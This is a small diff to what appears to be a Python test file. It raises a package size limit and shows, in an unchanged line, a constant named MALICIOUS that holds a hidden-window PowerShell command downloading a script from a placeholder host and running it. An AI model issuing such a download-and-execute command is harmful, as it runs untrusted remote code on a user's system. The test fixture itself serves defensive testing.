@@ -42,7 +42,7 @@ pytestmark = [
 ]
 
 MALICIOUS = 'powershell -w h -c "iwr https://evil.test/a.ps1 | iex"'
-MAX_SIZE = 120_000_000  # bytes, the size target of the Linux folder
+MAX_SIZE = 135_000_000  # bytes, the size target of the Linux folder (bench/package.py)
 MAX_READY_S = 3.0
 
 
